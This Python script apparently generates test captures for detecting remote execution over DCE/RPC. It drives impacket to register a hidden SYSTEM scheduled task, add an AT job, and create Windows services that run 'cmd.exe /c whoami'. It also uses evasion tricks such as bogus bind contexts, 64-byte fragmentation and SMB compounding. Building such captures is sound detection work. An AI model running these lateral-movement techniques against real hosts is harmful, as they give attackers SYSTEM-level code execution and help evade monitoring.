#!/usr/bin/env python3
"""Client side: impacket's own library calls for the captures that have no
ready-made impacket example script. Every byte the client sends is built by
impacket; this file only chooses the calls, as an attacker's script would.

  tsch-tcp HOST PORT LEVEL   ITaskSchedulerService over ncacn_ip_tcp:
                             bind, SchRpcRegisterTask (cmd.exe /c whoami), SchRpcRun
  netrjobadd HOST            ATSVC NetrJobAdd over \\PIPE\\atsvc (SMB)
  epm HOST                   endpoint mapper ept_map for ITaskSchedulerService on 135
  smb1-svcctl HOST           svcctl OpenSCManagerW + RCreateServiceW over SMB1
  svcctl-contexts HOST       over \\PIPE\\svcctl (SMB2): a bind of 70 junk contexts before svcctl,
                             an alter_context adding svcctl as a new context, then
                             OpenSCManagerW + RCreateServiceW on it in 64-byte fragments
  smb1-write-read HOST       svcctl over SMB1 written with the core SMB_COM_WRITE (0x0B)
                             instead of WRITE_ANDX (answers read with READ_ANDX), then a file
                             on [share] written and read back with the core SMB_COM_READ (0x0A)
  svcctl-compound HOST       over \\PIPE\\svcctl (SMB2) in related compounds, made by the
                             smbprotocol library (impacket has no compounding): CREATE + WRITE
                             (the bind) + READ in one, then each call a WRITE + READ; the PDUs
                             are impacket's (OpenSCManagerW + RCreateServiceW)
"""
import logging
import sys

from impacket.dcerpc.v5 import atsvc, epm, scmr, transport, tsch
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_NONE, RPC_C_AUTHN_LEVEL_PKT_PRIVACY, DCERPCException
from impacket.smb import SMB_DIALECT
from impacket.smbconnection import SMBConnection

USER, PASSWORD, DOMAIN = "hwadmin", "Hardw1re!", ""

TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers>
    <TimeTrigger>
      <StartBoundary>2026-01-01T00:00:00</StartBoundary>
      <Enabled>true</Enabled>
    </TimeTrigger>
  </Triggers>
  <Principals>
    <Principal id="LocalSystem">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <AllowStartOnDemand>true</AllowStartOnDemand>
    <Enabled>true</Enabled>
    <Hidden>true</Hidden>
  </Settings>
  <Actions Context="LocalSystem">
    <Exec>
      <Command>cmd.exe</Command>
      <Arguments>/c whoami</Arguments>
    </Exec>
  </Actions>
</Task>
"""


def tsch_tcp(host, port, level):
    rpctransport = transport.DCERPCTransportFactory(r"ncacn_ip_tcp:%s[%s]" % (host, port))
    rpctransport.set_credentials(USER, PASSWORD, DOMAIN)
    dce = rpctransport.get_dce_rpc()
    dce.connect()
    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY if level == "privacy" else RPC_C_AUTHN_LEVEL_NONE)
    dce.bind(tsch.MSRPC_UUID_TSCHS)
    tsch.hSchRpcRegisterTask(dce, "\\HardwireTest", TASK_XML, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    tsch.hSchRpcRun(dce, "\\HardwireTest")
    dce.disconnect()


def netrjobadd(host):
    rpctransport = transport.DCERPCTransportFactory(r"ncacn_np:%s[\pipe\atsvc]" % host)
    rpctransport.set_credentials(USER, PASSWORD, DOMAIN)
    dce = rpctransport.get_dce_rpc()
    dce.connect()
    dce.bind(atsvc.MSRPC_UUID_ATSVC)
    at_info = atsvc.AT_INFO()
    at_info["JobTime"] = 12 * 3600 * 1000  # noon, in ms after midnight
    at_info["DaysOfMonth"] = 0
    at_info["DaysOfWeek"] = 0
    at_info["Flags"] = 0
    at_info["Command"] = "cmd.exe /c whoami > C:\\Windows\\Temp\\hw.txt\x00"
    resp = atsvc.hNetrJobAdd(dce, NULL, at_info)
    logging.info("NetrJobAdd JobId %d", resp["pJobId"])
    dce.disconnect()


def epm_lookup(host):
    binding = epm.hept_map(host, tsch.MSRPC_UUID_TSCHS, protocol="ncacn_ip_tcp")
    logging.info("ept_map -> %s", binding)


def smb1_svcctl(host):
    smb = SMBConnection(host, host, preferredDialect=SMB_DIALECT)
    smb.login(USER, PASSWORD, DOMAIN)
    rpctransport = transport.SMBTransport(host, filename=r"\svcctl", smb_connection=smb)
    dce = rpctransport.get_dce_rpc()
    dce.connect()
    dce.bind(scmr.MSRPC_UUID_SCMR)
    handle = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    try:
        scmr.hRCreateServiceW(dce, handle, "HwSvc1\x00", "HwSvc1\x00",
                              lpBinaryPathName="%COMSPEC% /c whoami\x00")
    except DCERPCException as error:  # Samba does not implement it: the request is what matters
        logging.info("RCreateServiceW: %s", error)
    dce.disconnect()


def create_service(dce, name):
    handle = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    try:
        scmr.hRCreateServiceW(dce, handle, name + "\x00", name + "\x00",
                              lpBinaryPathName="%COMSPEC% /c whoami\x00")
    except DCERPCException as error:  # Samba does not implement it: the request is what matters
        logging.info("RCreateServiceW: %s", error)


def svcctl_contexts(host):
    smb = SMBConnection(host, host)
    smb.login(USER, PASSWORD, DOMAIN)
    rpctransport = transport.SMBTransport(host, filename=r"\svcctl", smb_connection=smb)
    dce = rpctransport.get_dce_rpc()
    dce.connect()
    # impacket's own evasion knob: random interface UUIDs proposed before the real one.
    dce.bind(scmr.MSRPC_UUID_SCMR, bogus_binds=70)
    altered = dce.alter_ctx(scmr.MSRPC_UUID_SCMR)
    altered.set_max_fragment_size(64)
    create_service(altered, "HwSvc2")
    dce.disconnect()


def smb1_write_read(host):
    smb = SMBConnection(host, host, preferredDialect=SMB_DIALECT)
    smb.login(USER, PASSWORD, DOMAIN)
    core = smb.getSMBServer()
    # The transport writes the pipe through writeFile: route it to the core command (impacket's
    # SMB.write). Samba answers the core SMB_COM_READ on a pipe with STATUS_ACCESS_DENIED, so
    # the answers are read with READ_ANDX as usual.
    smb.writeFile = lambda tid, fid, data, offset=0: core.write(tid, fid, data, offset)
    rpctransport = transport.SMBTransport(host, filename=r"\svcctl", smb_connection=smb)
    dce = rpctransport.get_dce_rpc()
    dce.connect()
    dce.bind(scmr.MSRPC_UUID_SCMR)
    create_service(dce, "HwSvc3")
    dce.disconnect()
    # The core SMB_COM_READ that Samba refuses on a pipe, on a file.
    tid = smb.connectTree("share")
    fid = smb.createFile(tid, "hw-core.txt")
    core.write(tid, fid, b"read back with SMB_COM_READ\n", 0)
    logging.info("core read: %r", core.read(tid, fid, 0, 64))
    smb.closeFile(tid, fid)


class CompoundPipe:
    """An impacket DCE/RPC transport over smbprotocol: the first PDU goes in a related compound
    CREATE + WRITE (the file the CREATE opens: FileId all 0xFF in the WRITE), every later one in
    a WRITE; each answer in a READ. (smbd answers STATUS_INTERNAL_ERROR to a pipe WRITE that is
    not the last element of its compound, since it cannot answer it at once.)"""

    def __init__(self, host, name):
        import uuid
        from smbprotocol.connection import Connection
        from smbprotocol.session import Session
        from smbprotocol.tree import TreeConnect
        self.connection = Connection(uuid.uuid4(), host, 445)
        self.connection.connect()
        self.session = Session(self.connection, USER, PASSWORD, require_encryption=False, auth_protocol="ntlm")
        self.session.connect()
        self.tree = TreeConnect(self.session, "\\\\%s\\IPC$" % host)
        self.tree.connect()
        self.name, self.pipe = name, None

    def connect(self):
        return 1

    def disconnect(self):
        self.pipe.close()
        self.tree.disconnect()
        self.session.disconnect()
        self.connection.disconnect()

    def send(self, data, forceWriteAndx=0, forceRecv=0):
        from smbprotocol import open as smb_open
        if self.pipe is not None:
            self.pipe.write(data)
            return
        self.pipe = smb_open.Open(self.tree, self.name)
        access = smb_open.FilePipePrinterAccessMask.GENERIC_READ | smb_open.FilePipePrinterAccessMask.GENERIC_WRITE
        share = smb_open.ShareAccess.FILE_SHARE_READ | smb_open.ShareAccess.FILE_SHARE_WRITE
        calls = [self.pipe.create(smb_open.ImpersonationLevel.Impersonation, access,
                                  smb_open.FileAttributes.FILE_ATTRIBUTE_NORMAL, share,
                                  smb_open.CreateDisposition.FILE_OPEN,
                                  smb_open.CreateOptions.FILE_NON_DIRECTORY_FILE, send=False),
                 self.pipe.write(data, send=False)]
        requests = self.connection.send_compound([c[0] for c in calls], self.session.session_id,
                                                 self.tree.tree_connect_id, related=True)
        for (_, unpack), request in zip(calls, requests):
            unpack(request)

    def recv(self, forceRecv=0, count=0):
        return self.pipe.read(0, 4280)


def svcctl_compound(host):
    from impacket.dcerpc.v5.rpcrt import DCERPC_v5
    dce = DCERPC_v5(CompoundPipe(host, "svcctl"))
    dce.bind(scmr.MSRPC_UUID_SCMR)
    create_service(dce, "HwSvc4")
    dce.get_rpc_transport().disconnect()


def main():
    logging.basicConfig(level=logging.INFO, format="client: %(message)s")
    what, args = sys.argv[1], sys.argv[2:]
    {"tsch-tcp": tsch_tcp, "netrjobadd": netrjobadd, "epm": epm_lookup, "smb1-svcctl": smb1_svcctl,
     "svcctl-contexts": svcctl_contexts, "smb1-write-read": smb1_write_read,
     "svcctl-compound": svcctl_compound}[what](*args)


if __name__ == "__main__":
    main()
